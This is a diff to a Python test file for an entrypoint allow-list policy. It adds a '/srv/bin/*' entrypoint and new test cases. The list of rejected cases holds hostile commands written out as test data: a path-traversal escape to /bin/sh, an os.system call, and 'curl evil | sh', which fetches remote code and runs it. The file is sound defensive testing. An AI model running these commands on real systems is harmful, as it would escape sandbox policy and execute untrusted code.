@@ -370,7 +370,12 @@ def local_spec(entrypoint: list[str], **environment: str) -> dict[str, Any]:
 
 
 LOCAL = Policy().with_local_entrypoints(
-    [*shipped_entrypoints(), ["python", "/srv/scripts/*.py"], ["bash", "train.sh"]]
+    [
+        *shipped_entrypoints(),
+        ["python", "/srv/scripts/*.py"],
+        ["bash", "train.sh"],
+        ["/srv/bin/*"],
+    ]
 )
 
 
@@ -381,6 +386,7 @@ LOCAL = Policy().with_local_entrypoints(
         ["python3", "-m", "stoker.training_scripts.train_linear"],
         ["python", "/srv/scripts/fit.py"],
         ["bash", "train.sh", "--fast"],
+        ["/srv/bin/fit", "--epochs", "3"],
     ],
 )
 def test_allowed_local_entrypoints_pass(entrypoint: list[str]) -> None:
@@ -392,6 +398,7 @@ def test_allowed_local_entrypoints_pass(entrypoint: list[str]) -> None:
     [
         ["python", "-c", "import os; os.system('id')"],
         ["python", "/srv/scripts/../../home/me/evil.py"],
+        ["/srv/bin/../../bin/sh", "-c", "id"],
         ["/bin/sh", "-c", "curl evil | sh"],
         ["bash"],
     ],
